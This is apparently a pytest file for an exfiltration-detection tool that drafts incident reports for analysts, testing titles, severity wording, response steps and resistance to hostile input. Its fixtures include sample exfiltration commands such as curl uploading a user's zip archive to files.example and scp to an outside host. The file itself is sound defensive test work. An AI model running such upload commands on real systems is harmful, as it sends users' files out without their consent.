"""What an analyst reads: said in one sentence, explained, bounded, and safe whatever the attacker wrote."""

import time
from collections.abc import Iterable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from exfilwatch.detection.detection import RuleInfo
from exfilwatch.findings.finding import Finding, FindingSignal
from exfilwatch.findings.incident import Incident, group
from exfilwatch_playbooks.cases.body import LIMIT, NOTE_LIMIT, draft, duplicate, news
from exfilwatch_playbooks.cases.case import Case, Draft
from exfilwatch_playbooks.hostile import visible
from exfilwatch_playbooks.response.phases import phases as response_phases

from ..findings.made import START, make  # noqa: TID252 (tests are no package on the path)
from ..rendered import RENDERERS, Page, commonmark  # noqa: TID252
from ..test_hostile import NASTY, hostile_text  # noqa: TID252

UPLOAD = make(
    "a",
    ProcessId="0x1F",
    ParentImage="C:\\Windows\\System32\\cmd.exe",
    CommandLine="curl -T C:\\Users\\anna\\q3.zip https://files.example/in",
)
ARCHIVE = make(
    "b",
    -10,
    branch="archive_then_network",
    attack=("T1560.001", "T1020"),
    Image="C:\\Program Files\\7-Zip\\7z.exe",
    CommandLine="7z a q3.zip C:\\Users\\anna\\Documents",
)
RULES = {
    "rule-transfer_tool": RuleInfo(
        "rule-transfer_tool",
        "Rule transfer_tool",
        guide="1. Who owns the destination?\n2. Ask `anna`.",
        falsepositives=("Backups *of* drivers", "Software updates"),
    )
}


def the_incident(findings: Iterable[Finding]) -> Incident:
    (incident,) = group(findings)
    return incident


def drafted(*findings: Finding, rules: dict[str, RuleInfo] | None = None) -> Draft:
    return draft(the_incident(findings), findings, rules)


def section(body: str, title: str) -> str:
    """The text under a heading of the second level."""
    return body.split(f"## {title}\n\n", 1)[1].split("\n\n## ")[0]


def test_the_title_is_one_line_of_plain_text():
    assert drafted(UPLOAD, ARCHIVE).title == ("Rule archive_then_network: 7z.exe on WS1 by CORP\\anna to files.example")


def test_the_title_names_the_gravest_finding():
    grave = UPLOAD.model_copy(update={"rule": UPLOAD.rule.model_copy(update={"level": "critical"})})
    assert drafted(grave, ARCHIVE).title.startswith("Rule transfer_tool: curl.exe on WS1")


def test_what_happened_is_one_sentence_with_who_where_when_what_and_where_to():
    assert section(drafted(UPLOAD, ARCHIVE).body, "What happened") == (
        "On 2024-05-01 between 08:50:00 and 09:00:00 UTC, `CORP\\anna` on `WS1` ran `7z.exe` and `curl.exe` with the "
        "destination `https://files.example/in`: an archive of users' files was made near a connection to the outside; "
        "a transfer tool was started with an option that uploads.\n\n"
        "No connection is among the evidence; the destination was named on the host. Whether data left is open."
    )


def test_what_was_sent_to_the_host_itself_has_not_left_yet():
    near = make("a", CommandLine="curl -T q.zip http://127.0.0.1:8080/in", DestinationIp="127.0.0.1")
    told = "The destination is the host itself: what listens there decides whether data left."
    assert section(drafted(near).body, "What happened").endswith(told)
    assert told not in section(drafted(near, UPLOAD).body, "What happened")


@pytest.mark.parametrize(
    ("finding", "said"),
    [
        (make("a"), "On 2024-05-01 at 09:00:00 UTC, `CORP\\anna` on `WS1` ran `curl.exe`"),
        (make("a", lasts=0.001), "On 2024-05-01 at 09:00:00 UTC, `CORP"),
        (make("a", lasts=1440), "Between 2024-05-01 09:00:00 UTC and 2024-05-02 09:00:00 UTC, `CORP"),
        (make("a", None), "At a time that no event gives, `CORP"),
        (make("a", user=None, host=None), "an unknown user on an unknown host ran"),
        (make("a", Image=None), "`WS1` was active with the destination"),
        (make("a", CommandLine="7z a x", branch="odd"), "ran `curl.exe`: a program showed signs of sending data out."),
    ],
)
def test_what_no_event_says_is_said_to_be_unknown(finding, said):
    assert said in section(drafted(finding).body, "What happened")


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({}, "No connection is among the evidence; the destination was named on the host."),
        ({"CommandLine": "7z a x"}, "Neither a connection nor a destination is among the evidence."),
        ({"category": "network_connection"}, "A connection was recorded, without the number of bytes"),
        ({"category": "network_connection", "orig_bytes": 1_234_567}, "by its record, 1,234,567 bytes were sent."),
    ],
)
def test_it_never_says_more_about_data_that_left_than_the_evidence(fields, said):
    category = fields.pop("category", "process_creation")
    finding = make("a", **fields)
    finding = finding.model_copy(update={"events": [finding.events[0].model_copy(update={"category": category})]})
    # Two findings of one connection don't double its bytes.
    other = finding.model_copy(update={"id": "other", "rule": finding.rule.model_copy(update={"id": "other"})})
    assert said in section(drafted(finding, other).body, "What happened")


def test_severity_comes_with_its_reason():
    low = make("c", 5, level="low")
    cases = [
        ([UPLOAD], "**Medium**: the level of its finding; there is no other kind of evidence than `transfer_tool`."),
        ([UPLOAD, low], "**Medium**: the highest level of its 2 findings, not raised, as all are of one kind: `trans"),
        (
            [UPLOAD, ARCHIVE],
            "**High**: the highest level of its findings is medium, raised by one step because 2 kinds ",
        ),
        (
            [make("a", level="critical"), ARCHIVE],
            "**Critical**: the highest level of its findings; 2 kinds of evidence",
        ),
        (
            [make("a"), make("a", branch="scheduled_upload")],
            "**Medium**: the highest level of its findings, not raised, as they are of the same events; 2 kinds of ",
        ),
        ([make("a", level="*odd*")], "`*odd*`: the level of its finding"),
    ]
    for findings, said in cases:
        assert section(drafted(*findings).body, "How bad it is").startswith(said)


def test_attack_ids_are_named():
    assert "ATT&CK: `T1020` and `T1560.001`" in drafted(UPLOAD, ARCHIVE).body
    assert "ATT&CK: none named" in drafted(make("a", attack=())).body


def test_how_we_know_shows_command_line_signals_and_events_in_order_of_time():
    finding = UPLOAD.model_copy(
        update={
            "signals": [
                *UPLOAD.signals,
                FindingSignal(name="Port", field="DestinationPort", matched="8443", start=None),
                FindingSignal(name="IsQuiet", field="CommandLine", matched=None, start=None),
            ]
        }
    )
    known = section(drafted(finding, ARCHIVE).body, "How we know")
    assert known.index("### 1. Rule archive\\_then\\_network") < known.index("### 2. Rule transfer\\_tool")
    assert known.split("### 2. Rule transfer\\_tool\n\n")[1] == (
        f"2024-05-01 09:00:00 UTC, medium, score 1, finding `{UPLOAD.id[:12]}`. Program `curl.exe`, started by "
        "`cmd.exe`, process 31, destination `https://files.example/in`.\n\n"
        "```text\ncurl -T C:\\Users\\anna\\q3.zip https://files.example/in\n```\n\n"
        "- Signal `IsUpload`: ` -T  ` in `CommandLine` at character 6\n"
        "- Signal `Port`: `8443` in `DestinationPort`\n"
        "- Not seen: `IsQuiet`\n"
        "- Event `sysmon.jsonl:7`, `windows process_creation`, 2024-05-01 09:00:00 UTC"
    )


def test_a_script_or_a_tasks_content_stands_in_for_a_command_line():
    script = make("a", CommandLine=None, ScriptBlockText="Invoke-RestMethod -InFile x").model_copy(
        update={"fields": {}}
    )
    task = make("a", CommandLine=None).model_copy(update={"fields": {"TaskContent": "<Exec>curl</Exec>"}})
    assert "```text\nInvoke-RestMethod -InFile x\n```" in drafted(script).body
    assert "```text\n<Exec>curl</Exec>\n```" in drafted(task).body


def test_of_a_sequence_it_says_what_is_known_of_the_processes():
    sequence = UPLOAD.model_copy(update={"fields": UPLOAD.fields | {"Processes": "of one process tree"}})
    assert "Its events are of one process tree." in section(drafted(sequence).body, "How we know")


def test_an_entry_without_a_program_says_what_there_is():
    finding = make("a", Image=None, CommandLine=None).model_copy(update={"fields": {"TaskName": "\\Sync"}})
    assert "`. Task `\\Sync`.\n" in drafted(finding).body


def test_findings_that_say_the_same_are_one_entry_with_a_count():
    loop = [make(str(minute), minute) for minute in range(50)]
    known = section(drafted(*loop).body, "How we know")
    assert known.count("### ") == 1
    assert "The same 49 more times, last 2024-05-01 09:49:00 UTC." in known
    assert "- 44 more events" in known


def test_what_to_do_has_steps_by_phase_with_commands_filled_in():
    todo = section(drafted(UPLOAD, ARCHIVE).body, "What to do now")
    phases = [line[4:] for line in todo.splitlines() if line.startswith("### ")]
    titles = [each.title for each in response_phases().values()]
    assert phases == [*titles, *(["Queries"] if "### Queries" in todo else [])]
    assert "Windows (PowerShell):\n\n```powershell\nGet-CimInstance Win32_Process -Filter 'ProcessId=31'" in todo
    assert "Quarantine the archive" in todo
    assert "usermod" not in todo


def test_linux_commands_are_for_a_linux_host():
    finding = make("a", user="anna", Image="/usr/bin/curl", ProcessId=44)
    finding = finding.model_copy(update={"events": [finding.events[0].model_copy(update={"product": "linux"})]})
    todo = section(drafted(finding).body, "What to do now")
    assert "Linux:\n\n```sh\nusermod --lock --expiredate 1 -- anna\n```" in todo
    assert "powershell" not in todo.lower()


def test_a_rules_guide_and_false_positives_are_shown():
    checks = section(drafted(UPLOAD, rules=RULES).body, "What to check first, and what can be harmless")
    assert checks.startswith(
        "### Rule transfer\\_tool\n\n1. Who owns the destination?\n2. Ask `anna`.\n\n"
        "Can be harmless:\n\n- Backups \\*of\\* drivers\n- Software updates"
    )
    assert "What to check first" not in drafted(ARCHIVE, rules=RULES).body


@pytest.mark.parametrize(
    "guide",
    [
        "# big\n\n## bigger",
        "Setext\n===\n\nOther\n---",
        "> # quoted\n\n- # listed\n1. # numbered",
        "<b>x</b> ![i](http://x/y.png)",
        "```\nnever closed\n# x",
        "~~~\nnever closed",
        "````\n```\n# x",
        "text ``` # x",
    ],
)
def test_a_guide_adds_no_headings_images_or_html_and_closes_its_fences(guide):
    rule = RuleInfo("rule-transfer_tool", "T", guide=guide)
    plain = drafted(UPLOAD, rules=RULES)
    page = commonmark(drafted(UPLOAD, rules={rule.id: rule}).body)
    expected = commonmark(plain.body)
    assert {tag: page.tags[tag] for tag in ("h1", "h2", "h3", "img", "b")} == {
        tag: expected.tags[tag] for tag in ("h1", "h2", "h3", "img", "b")
    }
    assert page.texts["p"][-1].endswith("opened by exfilwatch.")


TAGS = {"h2", "h3", "p", "strong", "em", "ul", "ol", "li", "code", "pre"}
_NAMES = ("host", "user", "Image", "ParentImage", "CommandLine", "TaskName", "TargetFilename", "DestinationIp")
fields = st.fixed_dictionaries(dict.fromkeys(_NAMES, hostile_text))


def hostile(name: str, values: dict[str, str], text: str, minute: int = 0) -> Finding:
    """A finding in which everything that can be hostile is."""
    finding = make(name, minute, source=text, attack=(text,), **values)
    return finding.model_copy(
        update={
            "signals": [FindingSignal(name=text, field=text, matched=text, start=3), *finding.signals],
            "rule": finding.rule.model_copy(update={"title": text}),
        }
    )


@pytest.mark.parametrize("render", RENDERERS, ids=lambda render: render.__name__)
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(values=fields, text=hostile_text)
def test_hostile_values_add_nothing_but_text(render, values, text):
    findings = [hostile("a", values, text), make("b", branch="scheduled_upload", source=text)]
    findings = [each.model_copy(update={"host": values["host"], "user": values["user"]}) for each in findings]
    rules = {each.rule.id: RuleInfo(each.rule.id, text, falsepositives=(text,)) for each in findings}
    incident = the_incident(findings)
    made = draft(incident, findings, rules)
    assert made.title.isprintable()
    page = render(made.body)
    assert set(page.tags) <= TAGS
    assert [flat(each) for each in page.texts["h2"]] == [
        "What happened",
        "How bad it is",
        "How we know",
        "What to check first, and what can be harmless",
        "What to do now",
    ]
    assert page.tags["h3"] == 2 + len(response_phases()) + made.body.count("\n### Queries\n") + 2
    note = render(news(incident, [], findings, rules, "high").text)
    assert set(note.tags) <= TAGS
    assert note.tags["h2"] == 3
    assert set(render(duplicate(a_case(text)).text).tags) <= TAGS


def flat(text: str) -> str:
    return " ".join(text.split())


def a_case(title: str) -> Case:
    return Case(id="7", incident="i", title=title, level="low", body="", status="open", opened=START, findings=())


@given(text=hostile_text.filter(lambda text: text not in ("", "-")))
def test_a_command_line_is_fenced_as_it_was(text):
    page = commonmark(drafted(make("a", CommandLine=text)).body)
    shown = visible(text.replace("\r\n", "\n"), keep="\n\t")
    assert f"{shown}\n" in page.texts["pre"]


def many(count: int) -> list[Finding]:
    """Findings that are all different, with long command lines of what takes most room."""
    return [
        make(
            str(number),
            number / 10,
            branch=["transfer_tool", "scheduled_upload", "scripting_engine", "collection", "odd"][number % 5],
            level="critical" if number == count // 2 else "low",
            host="WS1",
            Image=f"C:\\{number}\\{'🙂' * 200}'.exe",
            ProcessId=number,
            TaskName=f"\\{number}{chr(39) * 400}",
            TargetFilename=f"C:\\{number}{'&' * 300}",
            CommandLine=f"{number} " + "\u202e`🙂&" * 3000,
            DestinationIp=f"2001:db8::{number:x}",
        )
        for number in range(count)
    ]


@pytest.mark.parametrize("count", [1, 30, 1000])
def test_a_body_is_bounded_however_many_findings_there_are(count):
    findings = many(count)
    rules = {
        each.rule.id: RuleInfo(each.rule.id, "T" * 500, guide="x" * 5000, falsepositives=("🙂" * 1000,) * 50)
        for each in findings
    }
    incident = the_incident(findings)
    start = time.process_time()
    made = draft(incident, findings, rules)
    assert time.process_time() - start < 15
    assert len(made.body.encode()) <= LIMIT
    assert len(made.title) <= 250
    assert len(made.findings) == count
    known = section(made.body, "How we know")
    assert f"finding `{findings[count // 2].id[:12]}`" in known
    if count > 30:
        shown = known.count("### ") - 1 + known.count("\n- 2024-")
        assert f"**{count - shown:,} more findings** are not shown" in known
    page = commonmark(made.body)
    assert set(page.tags) <= TAGS
    assert page.texts["p"][-1].endswith("opened by exfilwatch.")
    note = news(incident, [], findings, rules, "critical")
    assert len(note.text.encode()) <= NOTE_LIMIT
    assert len(note.findings) == count


def test_many_findings_of_two_rules_show_one_of_each_whole():
    findings = [make(str(number), number / 10, CommandLine=f"curl -T {number} " + "x" * 3000) for number in range(100)]
    findings.append(make("odd", 5, branch="collection"))
    known = section(drafted(*findings).body, "How we know")
    assert "Rule collection\n\n2024" in known
    assert known.split("### In short\n\n")[1].count("- 2024-05-01") > 20


def test_a_command_that_must_be_pasted_is_never_cut():
    task = "\\" + "'" * 499
    body = drafted(make("a", branch="scheduled_upload", TaskName=task)).body
    assert "-eq '\\" + "''" * 499 + "'" in body


def test_a_note_tells_of_the_new_findings_and_brings_what_the_case_lacks():
    later = make("c", 30, branch="scheduled_upload", TaskName="\\Sync")
    incident = the_incident([UPLOAD, ARCHIVE, later])
    note = news(incident, [UPLOAD, ARCHIVE], [later], RULES, "high")
    assert note.text.startswith(
        "**1 more finding** in this incident, which now has 3.\n\nOn 2024-05-01 at 09:30:00 UTC"
    )
    assert "Severity is now **High**: the highest level of its findings is medium, raised" in note.text
    assert "Stop the schedule" in note.text
    assert "Cut the host off" not in note.text
    assert "What to check first" not in note.text
    assert (note.level, note.findings) == ("high", (later.id,))


def test_a_note_of_more_of_the_same_brings_no_steps_and_no_guide():
    later = make("c", 30)
    note = news(the_incident([UPLOAD, later]), [UPLOAD], [later], RULES)
    assert "What to do" not in note.text
    assert "What to check" not in note.text
    assert "Severity" not in note.text


def test_the_same_news_has_the_same_key_in_any_order():
    incident = the_incident([UPLOAD, ARCHIVE])
    assert news(incident, [], [UPLOAD, ARCHIVE]) == news(incident, [], [ARCHIVE, UPLOAD])
    assert news(incident, [], [UPLOAD]).key != news(incident, [], [ARCHIVE]).key


def test_the_order_of_findings_changes_nothing():
    incident = the_incident([UPLOAD, ARCHIVE])
    assert draft(incident, [UPLOAD, ARCHIVE], RULES) == draft(incident, [ARCHIVE, UPLOAD], RULES)


def test_a_duplicate_says_where_to_go_on():
    note = duplicate(a_case("Rule [x](http://evil.test)"))
    assert (note.duplicate_of, note.key) == ("7", "merged into i")
    assert "Go on in case `7` (Rule \\[x\\](hxxp://evil\\[.\\]test))" in note.text


@pytest.mark.parametrize("text", NASTY)
def test_nothing_hostile_breaks_out_of_a_body(text):
    values = dict.fromkeys(("host", "user", "Image", "CommandLine"), text)
    page: Page = commonmark(drafted(hostile("a", values, text)).body)
    assert set(page.tags) <= TAGS


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("curl -T a https://user:secret@files.example:8443/in?key=1", " to files.example:8443"),
        ("curl -T a ftp://203.0.113.9/in", " to 203.0.113[.]9"),
        ("scp a anna@files.example:/in", " to anna@files.example:/in"),
        ("curl -T a http://www.files.example/", " to www[.]files.example"),
        ("7z a x", " by CORP\\anna"),
    ],
)
def test_the_title_names_the_server_without_path_or_password(command, named):
    assert drafted(make("a", CommandLine=command)).title.endswith(named)
